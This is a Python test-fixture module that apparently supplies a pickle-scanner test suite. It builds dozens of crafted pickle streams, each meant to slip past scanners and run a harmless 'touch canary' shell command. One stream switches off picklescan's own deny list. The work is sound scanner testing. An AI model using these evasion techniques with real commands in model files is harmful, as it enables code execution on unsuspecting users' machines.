"""attack_streams.py - the ways past pickle scanners that lie in the opcode stream, O1 to O39.

Each stream touches a file called "canary" in the working directory, nothing more. An Attack says
what a scan must find, and how an application has to load the stream for it to work.
"""

from __future__ import annotations

import base64
import codecs
import io
import marshal
import pickle
import struct
import types
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

SHELL = b"touch canary"


@dataclass
class Attack:
    row: str  # of the list of techniques
    name: str
    stream: bytes
    words: tuple[str, ...] = ("system",)  # that the reasons contain
    verdict: str = "malicious"
    load: str = "load"  # see LOADERS in test_opcode_attacks.py; "" where loading shows nothing
    pythons: str = "all"  # or "self": only the interpreter that runs the tests
    absent: tuple[str, ...] = ()  # versions that have no such function

    @property
    def title(self) -> str:
        return f"{self.row}-{self.name}"


def text(value: str | bytes) -> bytes:
    data = value.encode() if isinstance(value, str) else value
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, path: str) -> bytes:
    return f"c{module}\n{path}\n".encode()


def call(callee: bytes, *args: bytes) -> bytes:
    return callee + b"(" + b"".join(args) + b"tR"


def attribute(owner: bytes, path: str) -> bytes:
    return call(name("builtins", "getattr"), owner, text(path))


def frame(size: int) -> bytes:
    return b"\x95" + struct.pack("<Q", size)


SYSTEM = name("posix", "system")
RUN = call(SYSTEM, text(SHELL))
ABSENT = {"resolve-name": ("3.8",), "mock-target": ("3.11", "3.12", "3.13", "3.14")}
MODULE = call(name("importlib", "import_module"), text("posix"))
CODE = "__import__('posix').system('touch canary')"


def stack_global(module: bytes, path: bytes) -> bytes:
    return module + path + b"\x93" + b"(" + text(SHELL) + b"tR."


def broken() -> Iterator[Attack]:
    """Errors after the effect, opcodes that scanners trip over."""
    short = b"\x8c\x05posix\x8c\x06system\x93\x8c\x0ctouch canary\x85R."
    yield Attack("O1", "garbage-after-call", RUN + b"\xff\xfe\xfd")
    yield Attack("O1", "cut-after-call", RUN + b"X\xff\xff")
    yield Attack("O2", "unset-memo-key", RUN + b"h\x63.")
    yield Attack("O3", "bytes-as-name", RUN + raw(b"a") + b"K\x01\x93.")
    yield Attack("O4", "bytearray-as-name", RUN + b"\x96" + struct.pack("<Q", 1) + b"a2\x93.")
    yield Attack("O4", "bytearray-in-set", b"\x8f(\x96" + struct.pack("<Q", 0) + RUN + b"\x90.")
    yield Attack("O5", "operands-from-the-first-byte", short)
    yield Attack("O13", "result-popped", RUN + b"0}.")
    yield Attack("O13", "result-under-pop-mark", b"}(" + RUN + b"1.")
    yield Attack("O18", "put-twice", b"]p0\n0}p0\n0" + RUN + b".")
    yield Attack("O18", "items-and-mark-left", b"](}" + RUN + b"N.")
    yield Attack("O37", "proto-in-the-middle", RUN + b"\x80\x02.")
    yield Attack("O37", "proto-above-5", RUN + b"\x80\x09.")
    known = b"\x96" + struct.pack("<Q", 1) + b"x0F1.5\n0G" + b"\0" * 8 + b"0\x8a\x01\x050"
    yield Attack("O34", "bytearray8-and-floats", known + RUN + b".")
    yield Attack("O34", "readonly-buffer", b"\x97\x980" + RUN + b".", load="buffers")


def operands() -> Iterator[Attack]:
    """Names that come to STACK_GLOBAL in other ways."""
    yield Attack("O6", "string", stack_global(b"S'posix'\n", b"S'sys\\x74em'\n"))
    yield Attack("O6", "binstring", stack_global(b"T\5\0\0\0posix", b"T\6\0\0\0system"))
    yield Attack("O6", "short-binstring", stack_global(b"U\5posix", b"U\6system"))
    yield Attack("O6", "unicode-escapes", stack_global(b"V\\u0070osix\n", b"Vs\\U00000079stem\n"))
    confused = text("posix") + text("math") + b"0p0\n0" + text("math") + b"p1\n0"
    yield Attack("O7", "put-of-the-stack-top", confused + stack_global(b"g0\n", text("system")))
    yield Attack(
        "O7",
        "put-twice",
        text("math")
        + b"q\0"
        + stack_global(b"0" + text("posix") + b"q\0" + text("x") + b"0h\0", text("system"))[0:],
    )
    str_call = b"(" + text("posix") + b"ibuiltins\nstr\np0\n0"
    yield Attack("O10", "module-by-inst-str", str_call + stack_global(b"g0\n", text("system")))
    joined = call(
        b"\x80\x04" + name("builtins", "str.join"), text(""), b"(" + text("po") + text("six") + b"l"
    )
    yield Attack("O10", "module-by-join", stack_global(joined, text("system")))
    encoded = call(name("_codecs", "decode"), raw(b"posix"), text("latin1"))
    yield Attack("O10", "module-by-decode", stack_global(encoded, text("system")))
    utf7 = call(name("builtins", "str"), raw(b"+AHAAbwBzAGkAeA-"), text("utf-7"))
    yield Attack("O10", "module-by-unusual-codec", stack_global(utf7, text("system")), words=())


def registry() -> Iterator[Attack]:
    """Extension codes, and pushes that come from the application."""
    args = text("posix") + text("system") + b"K\x07"
    register = call(name("copyreg", "add_extension"), args) + b"0"
    run = b"(" + text(SHELL) + b"tR."
    yield Attack("O11", "ext1", register + b"\x82\x07" + run)
    yield Attack("O11", "ext2", register + b"\x83\x07\x00" + run)
    yield Attack("O11", "ext4", register + b"\x84\x07\0\0\0" + run)
    table = name("copyreg", "_inverted_registry") + b"K\x08" + text("posix") + text("system")
    yield Attack("O11", "by-table", table + b"\x86s0\x82\x08" + run, words=())
    old = register.replace(b"copyreg", b"copy_reg")
    yield Attack(
        "O12",
        "ext-pushes-one",
        old + text("posix") + b"\x82\x070" + stack_global(b"", text("system")),
    )
    posix = text("posix")
    pid = stack_global(posix + b"Px\n0", text("system"))
    yield Attack("O12", "persid-pushes-one", pid, load="persistent")
    buffer = stack_global(posix + b"\x970", text("system"))
    yield Attack("O12", "next-buffer-pushes-one", buffer, load="buffers")
    yield Attack(
        "O36", "binpersid", stack_global(posix + b"NQ0", text("system")), load="persistent"
    )


def hidden_by_frame(filler: int) -> bytes:
    """The argument begins in a frame and does not fit; what follows is bytes, or opcodes."""
    kept = 4
    hidden = RUN + b"0"
    inside = raw(b"f" * filler) + b"0\x8c\x14"
    behind = b"C" + bytes([kept - 2 + len(hidden)]) + b"NN" + hidden
    return b"\x80\x04" + frame(len(inside) + kept) + inside + b"a" * 20 + behind + b"0N."


def divergences() -> Iterator[Attack]:
    """What interpreters take and pickletools does not, or they do otherwise."""
    yield Attack("O14", "frame-straddle-file", hidden_by_frame(1 << 17))
    yield Attack("O14", "frame-straddle-bytesio", hidden_by_frame(10), load="BytesIO")
    yield Attack("O15", "int-base-16", b"I0x10\n0" + RUN + b".")
    yield Attack("O15", "long-base-2", b"L0b101L\n0" + RUN + b".")
    yield Attack("O16", "nul-in-int", b"I1\0junk\n0" + RUN + b".")
    yield Attack("O16", "nul-in-put-and-get", b"Np1\0junk\n0g1\0\n0" + RUN + b".")
    yield Attack("O17", "encoding-utf-8", b"S'\xc3\xa9'\n0" + RUN + b".", load="utf-8")
    yield Attack("O17", "encoding-latin1", b"U\1\xff0" + RUN + b".", load="latin1")
    yield Attack("O19", "appends-without-mark", RUN + b"e.")
    yield Attack("O19", "large-memo-key", b"Np100000\n0" + RUN + b"p100000\n0g100000\n.")
    beyond = b"Np99999999999999999999\n0g99999999999999999999\n0"
    yield Attack("O19", "put-beyond-ssize", beyond + RUN + b".", load="pickle.py")
    listed = SYSTEM + b"]" + text(SHELL) + b"aR."
    yield Attack("O19", "reduce-with-a-list", listed, load="pickle.py")
    falsy = name("argparse", "Namespace") + b")\x81]b0"
    yield Attack("O19", "build-with-a-list", falsy + RUN + b".", load="pickle.py")
    overlapping = frame(60) + b"N0" + frame(8) + b"N0N0N0" + RUN + b"."
    overlapping += b"." * 40
    yield Attack("O19", "overlapping-frames", overlapping, load="loads")
    last_line = call(name("posix", "system"), text(SHELL)) + b"cposix\nsystemx"
    yield Attack("O19", "last-line-cut", last_line, load="pickle.py")
    yield Attack("O20", "second-pickle", b"\x80\x02}." + RUN + b".", load="repeated")
    across = text("posix") + b"p0\n." + stack_global(b"g0\n", text("system"))
    yield Attack("O20", "memo-of-the-first", across, load="repeated")


def names() -> Iterator[Attack]:
    """Names written so that a list of names does not hold them."""
    yield Attack(
        "O22", "dotted-global", b"\x80\x04" + call(name("shutil", "os.system"), text(SHELL)) + b"."
    )
    dotted = stack_global(b"\x80\x04" + text("shutil"), text("os.system"))
    yield Attack("O22", "dotted-stack-global", dotted)
    torch = call(name("torch", "serialization.os.system"), text(SHELL))
    yield Attack("O22", "dotted-torch", b"\x80\x04" + torch + b".", load="")
    old = call(name("__builtin__", "eval"), text(CODE)) + b"."
    yield Attack("O23", "builtin", old, words=("eval",))
    yield Attack(
        "O23",
        "commands",
        call(name("commands", "getoutput"), text(SHELL)) + b".",
        words=("getoutput",),
    )
    chain = name("builtins", "print.__self__.eval")
    yield Attack(
        "O24", "self-of-a-builtin", b"\x80\x04" + call(chain, text(CODE)) + b".", words=("eval",)
    )
    held = call(name("shutil", "copy.__globals__.get"), text("os"))
    yield Attack(
        "O24",
        "globals-of-a-function",
        b"\x80\x04" + call(attribute(held, "system"), text(SHELL)) + b".",
    )
    classes = call(name("builtins", "print.__class__.__base__.__subclasses__"))
    one = call(attribute(classes, "__getitem__"), b"K\x00")
    init = attribute(attribute(one, "__init__"), "__builtins__")
    yield Attack("O24", "subclasses", b"\x80\x04" + init + b".", words=("__subclasses__",), load="")
    yield Attack("O9", "allowed-names-only", allowed_names(), words=("__builtins__",), load="")
    switch = call(b"\x80\x04" + name("picklescan.scanner", "_unsafe_globals.clear"))
    yield Attack(
        "O31",
        "scanner-switched-off",
        switch + b".",
        words=("picklescan",),
        verdict="suspicious",
        load="",
    )
    yield Attack(
        "O39",
        "module-beside-the-model",
        call(name("my_module", "load"), text("x")) + b".",
        words=("my_module.load",),
        verdict="suspicious",
        load="",
    )


def allowed_names() -> bytes:
    """numpy.size gets a `shape`, numpy.shape reads it: the builtins, by names of numpy only."""
    size, shape = name("numpy", "size"), name("numpy", "shape")
    state = b"N}" + text("shape") + name("numpy", "__builtins__") + b"s\x86b0"
    return size + state + call(shape, size) + b"."


def resolvers() -> Iterator[Attack]:
    """Functions that find any other function."""
    run = text(SHELL)
    ways = {
        "import-module": attribute(MODULE, "system"),
        "resolve-name": call(name("pkgutil", "resolve_name"), text("posix:system")),
        "locate": call(name("pydoc", "locate"), text("posix.system")),
        "getattr-static": call(name("inspect", "getattr_static"), MODULE, text("system")),
        "attrgetter": call(call(name("operator", "attrgetter"), text("system")), MODULE),
        "dunder-import": attribute(call(name("builtins", "__import__"), text("posix")), "system"),
        "mock-target": call(name("unittest.mock", "_importer"), text("os.system")),
        "sys-modules": attribute(
            call(name("operator", "getitem"), name("sys", "modules"), text("posix")), "system"
        ),
        "nested-getattr": attribute(attribute(name("shutil", "os"), "sys"), "modules"),
    }
    for title, way in ways.items():
        if title == "nested-getattr":
            module = call(name("operator", "getitem"), way, text("posix"))
            way = attribute(module, "system")
        yield Attack("O27", title, call(way, run) + b".", absent=ABSENT.get(title, ()))
    method = call(name("operator", "methodcaller"), text("system"), run)
    yield Attack("O27", "methodcaller", call(method, MODULE) + b".")
    field = call(name("string", "Formatter"))
    field = call(attribute(field, "get_field"), text("0.system"), b"(" + MODULE + b"t", b"}")
    yield Attack(
        "O27",
        "formatter-get-field",
        field + b".",
        words=("get_field",),
        verdict="suspicious",
        load="",
    )
    items = b"(" + MODULE + b"l"
    mapped = call(
        name("builtins", "map"), call(name("operator", "attrgetter"), text("system")), items
    )
    yield Attack(
        "O33",
        "next-of-map",
        call(call(name("builtins", "next"), mapped), run) + b".",
        words=("attrgetter",),
    )
    got = call(name("builtins", "getattr"), MODULE, text("system"), b"N")
    yield Attack("O33", "result-called", call(got, run) + b".")


def delayed() -> Iterator[Attack]:
    """Nothing runs while the stream is read."""
    run = text(SHELL)
    yield Attack("O28", "atexit", call(name("atexit", "register"), SYSTEM, run) + b".")
    partial = call(name("functools", "partial"), SYSTEM, run)
    yield Attack("O28", "partial", call(partial) + b".")
    yield Attack(
        "O28",
        "starmap",
        call(
            name("builtins", "list"),
            call(name("itertools", "starmap"), SYSTEM, b"((" + run + b"tl"),
        )
        + b".",
    )
    yield Attack(
        "O28",
        "map",
        call(name("builtins", "tuple"), call(name("builtins", "map"), SYSTEM, b"(" + run + b"l"))
        + b".",
    )
    factory = call(name("collections", "defaultdict"), partial)
    yield Attack("O28", "defaultdict-factory", call(attribute(factory, "__getitem__"), b"N") + b".")
    finalize = call(name("weakref", "finalize"), name("argparse", "Namespace"), SYSTEM, run)
    yield Attack("O28", "finalize", finalize + b".")
    setattr_class = name("string", "Template") + b"N}" + text("__setstate__") + SYSTEM + b"s\x86b"
    yield Attack("O8", "build-sets-a-method", setattr_class + b")\x81" + run + b"b.")
    quiet = name("argparse", "Namespace") + b"N}" + text("__call__") + b"K\x01s\x86b."
    yield Attack(
        "O8",
        "build-on-a-class",
        quiet,
        words=("argparse.Namespace",),
        verdict="suspicious",
        load="",
    )


def writers() -> Iterator[Attack]:
    """Files written now and run later."""
    path = call(name("pathlib", "Path"), text("canary"))
    yield Attack(
        "O29",
        "write-text",
        call(attribute(path, "write_text"), text("x")) + b".",
        words=("write_text",),
    )
    for module, opener in (("io", "open"), ("codecs", "open")):
        yield Attack(
            "O29",
            f"{module}-open",
            call(name(module, opener), text("canary"), text("w")) + b".",
            words=(opener,),
        )
    yield Attack(
        "O29",
        "file-handler",
        call(name("logging", "FileHandler"), text("canary")) + b".",
        words=("FileHandler",),
    )
    write_file = call(
        name("distutils.file_util", "write_file"), text("canary"), b"(" + text("x") + b"l"
    )
    yield Attack("O29", "distutils", write_file + b".", words=("write_file",), load="")
    yield Attack(
        "O29",
        "numpy-saver",
        call(name("numpy", "savetxt"), text("a.pth"), b"]") + b".",
        words=("savetxt",),
        load="",
    )


def carriers() -> Iterator[Attack]:
    """Payloads inside strings: pickles, code, encoded source."""
    inner = RUN + b"."
    latin1 = call(name("_codecs", "encode"), text(inner.decode("latin1")), text("latin1"))
    yield Attack("O25", "pickle-loads", call(name("pickle", "loads"), latin1) + b".")
    yield Attack("O25", "c-pickle-loads", call(name("_pickle", "loads"), raw(inner)) + b".")
    stream = call(name("_io", "BytesIO"), raw(inner))
    for module, loader in (
        ("torch.storage", "_load_from_bytes"),
        ("numpy", "load"),
        ("joblib", "load"),
        ("pandas", "read_pickle"),
        ("torch", "load"),
    ):
        argument = raw(inner) if loader == "_load_from_bytes" else stream
        yield Attack(
            "O25",
            f"{module}-{loader.strip('_')}",
            call(name(module, loader), argument) + b".",
            load="",
        )
    yaml = text("!!python/object/apply:os.system ['touch canary']")
    yield Attack(
        "O25",
        "yaml-unsafe-load",
        call(name("yaml", "unsafe_load"), yaml) + b".",
        words=("unsafe_load",),
        load="",
    )
    code = compile(CODE, "x", "exec")
    loaded = call(name("marshal", "loads"), raw(marshal.dumps(code)))
    scope = b"}"
    function = call(name("types", "FunctionType"), loaded, scope)
    yield Attack(
        "O26", "marshal-function", call(function) + b".", words=("marshal.loads",), pythons="self"
    )
    yield Attack(
        "O26",
        "marshal-exec",
        call(name("builtins", "exec"), loaded) + b".",
        words=("exec",),
        pythons="self",
    )
    made = call(name("types", "CodeType"), *code_arguments(code))
    yield Attack(
        "O26",
        "code-type",
        call(call(name("types", "FunctionType"), made, scope)) + b".",
        words=("CodeType",),
        pythons="self",
    )
    yield Attack("O26", "cloudpickle", cloudpickled(), words=(), verdict="suspicious", load="")
    source = base64.b64encode(CODE.encode())
    decoded = call(name("base64", "b64decode"), raw(source))
    yield Attack("O30", "base64", call(name("builtins", "exec"), decoded) + b".", words=("exec",))
    packed = call(name("zlib", "decompress"), raw(zlib.compress(CODE.encode())))
    yield Attack("O30", "zlib", call(name("builtins", "exec"), packed) + b".", words=("exec",))
    rot13 = call(name("_codecs", "decode"), text(codecs.encode(CODE, "rot13")), text("rot13"))
    yield Attack("O30", "rot13", call(name("builtins", "exec"), rot13) + b".", words=("exec",))
    wide = call(name("builtins", "exec"), text("\u200b" + CODE.replace("o", "\u043e"))) + b"."
    yield Attack("O30", "homoglyphs", wide, words=("exec",), load="")


def code_arguments(code: types.CodeType) -> Iterator[bytes]:
    """What CodeType takes in this interpreter, as opcodes."""
    fields = [
        "argcount",
        "posonlyargcount",
        "kwonlyargcount",
        "nlocals",
        "stacksize",
        "flags",
        "code",
    ]
    fields += ["consts", "names", "varnames", "filename", "name", "qualname", "firstlineno"]
    fields += ["linetable", "exceptiontable", "freevars", "cellvars"]
    for field in fields:
        yield constant(getattr(code, f"co_{field}"))


def constant(value: Any) -> bytes:
    data = pickle.dumps(value, 3)
    return (
        data[2:-1].replace(b"q\0", b"")
        if not isinstance(value, tuple)
        else (b"(" + b"".join(constant(item) for item in value) + b"t")
    )


def cloudpickled() -> bytes:
    import cloudpickle

    class Payload:
        def __reduce__(self) -> Any:
            return (lambda: __import__("posix").system("touch canary")), ()

    return bytes(cloudpickle.dumps(Payload()))


def joblib_resumed() -> bytes:
    """A pickle that goes on after the raw bytes of an array; they look like STOP and opcodes."""
    import joblib
    import numpy

    class Payload:
        def __reduce__(self) -> Any:
            import posix

            return posix.system, (SHELL.decode(),)

    file = io.BytesIO()
    joblib.dump([numpy.frombuffer(b".cN.\x80\x04.." * 8, dtype="u1"), Payload()], file)
    return file.getvalue()


def others() -> Iterator[Attack]:
    yield Attack("O21", "joblib-after-array", joblib_resumed(), load="joblib", pythons="self")
    deep = b"]" + b"2\x86" * 60
    yield Attack(
        "O32",
        "dup-tuple2-as-key",
        b"}" + deep[1:].replace(b"2", b")2", 1) + b"Ns.",
        words=(),
        verdict="suspicious",
        load="",
    )
    yield Attack(
        "O32", "huge-memo-key", b"Nr\xff\xff\xff\xff.", words=(), verdict="suspicious", load=""
    )
    hub = call(name("torch.hub", "load"), text("user/repo"), text("model"))
    yield Attack("O35", "torch-hub", hub + b".", words=("torch.hub.load",), load="")
    auto = name("transformers", "AutoModel.from_pretrained")
    yield Attack(
        "O35",
        "from-pretrained",
        b"\x80\x04" + call(auto, text("user/repo")) + b".",
        words=("from_pretrained",),
        verdict="suspicious",
        load="",
    )
    clean = b"".join(text(f"layer.{i}.weight") + b"(K\x01K\x02l" for i in range(100_000))
    yield Attack("O38", "padded", b"}(" + clean + text("end") + RUN + b"u.")


def attacks() -> list[Attack]:
    groups = [broken, operands, registry, divergences, names, resolvers, delayed, writers, carriers]
    return [attack for group in [*groups, others] for attack in group()]
